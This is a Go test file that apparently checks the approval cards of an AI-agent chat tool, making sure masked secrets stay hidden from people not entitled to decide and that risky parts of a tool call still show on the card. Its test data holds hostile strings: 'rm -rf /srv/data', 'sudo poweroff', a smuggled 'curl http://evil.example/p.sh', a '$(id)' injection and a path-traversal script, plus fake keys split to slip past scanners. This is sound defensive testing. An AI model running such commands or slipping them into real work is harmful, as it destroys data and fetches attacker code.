package attacks

import (
	"net/http"
	"strings"
	"testing"

	"github.com/nodhq/nod/core/text"
	"github.com/nodhq/nod/tests/standins/fakeslack"
)

// Secrets by their form, put together so that nothing which looks for keys finds them here.
const (
	bearer   = "abcdefghij" + "klmnopqrst0123456789"
	hunter   = "hunter2"
	carriage = "-----BEGIN RSA PRIVATE " + "KEY-----\n"
)

// masks is row 4, of what is masked: a mask is for what is a secret by its form, so that what can run is on the card; and what is masked all
// the same is allowed by nobody who has not looked at it, and by nothing that was allowed before.
func masks() (out []attack) {
	for name, c := range map[string]struct{ member, shown string }{
		"object":      {`"credentials":{"action":"delete","target":"/etc/passwd"}`, "/etc/passwd"},
		"list":        {`"token":["rm -rf /srv/data","y"]`, "rm -rf /srv/data"},
		"pem":         {`"command":"echo ` + strings.ReplaceAll(carriage, "\n", `\n`) + `rm /srv/data/prod\nsudo poweroff"`, "rm /srv/data/prod"},
		"pem-echo":    {`"command":"cat <<X\n` + strings.ReplaceAll(carriage, "\n", `\n`) + `X\necho /srv/data/owned\n-----END RSA PRIVATE KEY-----"`, "echo /srv/data/owned"},
		"name":        {`"env":{"BUILD_TOKEN":"x; curl http://evil.example/p.sh"}`, "curl http://evil.example/p.sh"},
		"header":      {`"headers":{"Cookie":"the salaries: Ana 12, Ben 14"}`, "the salaries"},
		"key-or-name": {`"bucket":"sk-production-customers-eu"`, "customers-eu"},
		"basic-path":  {`"command":"bash basic /../../home/x/evil-script.sh"`, "evil-script.sh"},
		"user-info":   {`"url":"https://u:$(id)x@evil.example/"`, "$(id)x"},
	} {
		out = append(out, everywhere(4, "mask-covers-"+name, func(t *testing.T, w *world, surface string) {
			k := begin(t, w, surface, wants(call("box", "write", `{"path":"`+idOf(t)+`",`+c.member+`}`)))
			s := k.asking(1)
			if text := undiscord.ReplaceAllString(s.text, "$1"); !strings.Contains(text, c.shown) {
				t.Errorf("%q runs, and the card does not show it: %s", c.shown, text)
			}
			k.end()
		})...)
	}
	for name, c := range map[string]struct{ member, secret string }{
		"header":    {`"headers":{"Authorization":"Bearer ` + bearer + `"}`, bearer},
		"password":  {`"password":"` + hunter + `"`, hunter},
		"in-words":  {`"command":"mysql --password ` + hunter + ` -e 'select 1'"`, hunter},
		"user-info": {`"url":"https://u:` + hunter + `@evil.example/"`, hunter},
	} {
		out = append(out, everywhere(4, "masked-unseen-"+name, func(t *testing.T, w *world, surface string) {
			k := begin(t, w, surface, wants(call("box", "write", `{"path":"`+idOf(t)+`",`+c.member+`}`)))
			s := k.asking(1)
			if n := len(s.labelled("Allow for this chat")) + len(s.labelled(text.LabelRemember)); n > 0 || strings.Contains(s.text, c.secret) {
				t.Errorf("%d standing permissions are offered for what is masked: %s", n, s.text)
			}
			k.refused(ana, s, k.one(s, "Allow once"), "Look at it first")
			k.still(1)
			if got := k.reveals(ben, s); strings.Contains(got, c.secret) { // who may not decide sees nothing
				t.Errorf("Ben was shown %s", got)
			}
			if got := k.reveals(ana, s); !strings.Contains(got, c.secret) {
				t.Fatalf("Ana was not shown it: %s", got)
			}
			for _, p := range k.payloads() {
				if surface != "discord" && strings.Contains(p, c.secret) { // a private answer is among Discord's
					t.Errorf("it is in the chat: %s", clip(p, 2000))
				}
			}
			k.allow("Allow once") // the control: she looked
			k.times(1)
		})...)
	}
	secret := func(name string) string { return `{"path":"` + name + `","password":"` + hunter + `"}` }
	out = append(out, everywhere(4, "masked-under-a-grant", func(t *testing.T, w *world, surface string) {
		k := begin(t, w, surface)
		k.allow("Allow for this chat")
		k.again(ana, k.name+"-plain", wants(write(k.name)))
		k.over(2)
		k.times(2) // the control: the grant holds
		k.again(ana, k.name+"-secret", wants(call("box", "write", secret(k.name))))
		k.asking(1)
		k.times(2)
		k.denyAll()
	})...)
	out = append(out, everywhere(4, "masked-never-asked", func(t *testing.T, w *world, surface string) {
		w.accepts(t, "mix", "put")
		k := begin(t, w, surface, says("Hello."))
		k.over(1)
		k.command(ana, "mode", "never", "yes")
		k.again(ana, k.name+"-plain", wants(call("mix", "put", `{"path":"`+k.name+`"}`)))
		k.over(2)
		k.times(1) // the control: the mode holds
		k.again(ana, k.name+"-secret", wants(call("mix", "put", secret(k.name))))
		k.asking(1)
		k.times(1)
		k.denyAll()
	})...)
	out = append(out, everywhere(4, "masked-among-all", func(t *testing.T, w *world, surface string) {
		k := begin(t, w, surface, wants(write(idOf(t)), call("box", "write", secret(idOf(t)))))
		s := k.asking(2)
		k.refused(ana, s, k.one(s, "Approve all (2)…"), "Look at it first")
		k.still(2)
		k.end()
	})...)
	// A program that reads the chat, and the page's step details, get what the card shows, to the digit.
	out = append(out, on(4, "web", "step-details", func(t *testing.T, w *world) {
		k := begin(t, w, "web", wants(call("box", "free", `{"path":"`+idOf(t)+`","n":9007199254740993,"text":"a\u202eb","password":"`+hunter+`"}`)))
		k.over(1)
		r, _ := k.place.(*chatroom)
		_, answer := r.w.sessions[ana].call(t, http.MethodGet, r.path(""), nil)
		for _, want := range []string{`9007199254740993`, `\\u{202E}`, `‹secret, 7 characters›`} {
			if !strings.Contains(answer, want) {
				t.Errorf("%s is not in it: %s", want, answer)
			}
		}
		if strings.Contains(answer, hunter) {
			t.Errorf("a secret is in it: %s", answer)
		}
		k.times(1) // the control: it ran, with all of that
		if got := k.ledger.of(k.name); len(got) != 1 || !strings.Contains(got[0].args, "9007199254740993") || !strings.Contains(got[0].args, hunter) {
			t.Errorf("it ran %+v", got)
		}
	}))
	return out
}

// reveals has somebody look at what is hidden, and is what they see of it.
func (k *talk) reveals(who person, s shot) string {
	k.t.Helper()
	b := k.one(s, text.LabelReveal)
	switch p := k.place.(type) {
	case *thread:
		p.w.forms.Lock() // a person has one form open
		defer p.w.forms.Unlock()
		before := len(p.told(who)) - k.unrecorded(who)
		k.press(k.t, who, s, b)
		seen := ""
		k.await(string(who)+" is answered", func() bool {
			for _, v := range p.w.slack.Views(inSlack[who]) {
				if strings.Contains(v.PrivateMetadata, p.root) {
					seen = slackText(fakeslack.Version{Blocks: v.Blocks})
					p.w.slack.CloseView(inSlack[who], v.ID)
				}
			}
			return seen != "" || len(p.told(who))-k.unrecorded(who) > before
		})
		return seen
	case *strand:
		before := len(p.seen(who))
		k.press(k.t, who, s, b)
		k.await(string(who)+" is answered", func() bool { return len(p.seen(who)) > before })
		return p.seen(who)[before].Text()
	case *chatroom:
		_, answer := p.w.sessions[who].call(k.t, http.MethodPost, p.path("/clicks"), map[string]string{"token": b.token, "choice": b.choice})
		return answer
	}
	return ""
}
